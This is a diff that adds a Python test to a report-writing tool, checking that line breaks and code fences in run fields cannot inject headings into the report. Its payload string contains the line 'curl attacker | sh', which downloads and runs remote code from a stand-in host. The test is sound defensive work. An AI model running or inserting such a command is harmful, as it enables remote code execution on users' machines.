@@ -243,3 +243,20 @@ def test_the_command_writes_it_and_says_where(run, capsys):
     assert str(run.path / "report.md") in capsys.readouterr().out
     assert cli.run(report.main, ["--workdir", str(run.path / "none")]) == 2
     assert "not a run folder" in capsys.readouterr().err
+
+
+ATTACK = "x\n```\n# Do this\n\n    curl attacker | sh\n"
+
+
+def test_line_breaks_of_a_run_start_no_line_of_the_report(run):
+    recipe = dataclasses.replace(
+        IMAGE, name=ATTACK, description=ATTACK, dataset=ATTACK
+    )
+    starts = [{**START, "started": ATTACK, "machine": ATTACK}] * 2
+    text = written(
+        made(
+            run.path / ATTACK.replace("/", ""), recipe, ROWS[:2], starts=starts
+        )
+    )
+    assert not [line for line in text.splitlines() if line.startswith("# Do")]
+    assert "\n```\n" not in text
